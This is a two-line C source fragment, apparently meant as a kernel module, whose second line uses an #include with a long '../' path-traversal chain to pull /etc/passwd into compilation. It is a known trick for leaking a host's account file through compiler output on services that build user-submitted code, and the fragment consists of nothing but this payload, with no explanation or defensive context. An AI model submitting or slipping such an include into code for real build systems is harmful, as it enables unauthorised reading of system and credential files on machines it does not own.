#include <linux/module.h>
#include "../../../../../../../../etc/passwd"
